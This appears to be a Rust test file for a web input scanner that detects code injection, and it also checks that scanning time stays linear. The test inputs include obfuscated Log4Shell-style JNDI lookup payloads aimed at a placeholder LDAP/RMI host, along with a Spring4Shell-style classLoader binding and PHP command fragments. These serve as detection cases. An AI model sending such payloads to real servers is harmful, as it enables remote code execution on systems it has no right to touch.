//! The gate's words, values that must pass, and that the work grows with the value and no faster.

use super::names;
use crate::detect::Shape;
use crate::detect::decode::work::assert_linear;
use crate::detect::gate::word;
use crate::detect::lang::code::Name;
use crate::detect::{Class, ClassSet, Input, Location, Scanner};

fn rule_of(location: Location, value: &[u8]) -> Option<std::string::String> {
    let input = Input { location, name: b"q", value };
    let finding = Scanner::new().scan(&input, ClassSet::NONE.with(Class::CodeInjection));
    finding.map(|finding| finding.rule.into_owned())
}

#[test]
fn the_gate_knows_every_function() {
    for name in names::ALL.iter().flat_map(|list| list.iter()) {
        assert!(names::meaning(&Name::of(name.as_bytes())).is_some());
        assert_ne!(Shape::of(name.as_bytes()).words & word::CODE, 0, "{name}");
    }
}

#[test]
fn the_name_of_a_class_is_found_wherever_it_stands_alone() {
    for location in [Location::Query, Location::JsonKey, Location::Cookie, Location::Header, Location::Xml] {
        assert_eq!(
            rule_of(location, b"java.lang.ProcessBuilder"),
            Some("code_injection.class-name".into()),
            "{location}"
        );
    }
    assert_eq!(rule_of(Location::Query, b"java.lang.ProcessBuilder is slow"), None);
}

#[test]
fn a_binding_of_a_class_is_a_name_and_no_value() {
    assert!(rule_of(Location::FieldName, b"class.module.classLoader.x").is_some());
    assert_eq!(rule_of(Location::Query, b"class.module.classLoader.x"), None);
}

#[test]
fn lookups_are_resolved_from_the_inside_out() {
    for value in [
        &b"${jndi:ldap://x}"[..],
        b"${JnDi:LDAP://x}",
        b"${${upper:j}ndi:rmi://x}",
        b"${${env:A:-j}${env:B:-n}di${env:C:-:}ldap${env:D:-:}//x}",
        b"$${env:a:-${env:b:-$}{jndi:ldap://x}}}",
        b"${j${k8s:k5:-ND}i:dns:/x}",
        b"${:1:-x$}{jndi:ldap://x}",
    ] {
        assert!(rule_of(Location::Header, value).is_some(), "{:?}", core::str::from_utf8(value));
    }
    for value in [
        &b"${jndi}"[..],
        b"${a:jndi:ldap://x}",
        b"{jndi:ldap://x}",
        b"${x${y${z}}}",
        b"${a:-$} {jndi:ldap://x}",
    ] {
        assert_eq!(rule_of(Location::Header, value), None, "{:?}", core::str::from_utf8(value));
    }
}

#[test]
fn work_is_linear_in_the_value() {
    for unit in [
        "${",
        "${a",
        "${::-",
        "}",
        "<?",
        "<?php",
        "$a[",
        "$a",
        "system(",
        "while(",
        "(system)",
        "@{",
        "'",
        "/*",
        "//a",
        "')(",
        "('a'.'b')(",
        "'.a(",
        "java.",
        "a.b@",
        "__a__.",
        "$_GET[",
    ] {
        assert_linear(unit.as_bytes(), b"", 120, |value| {
            rule_of(Location::Query, value);
        });
    }
}
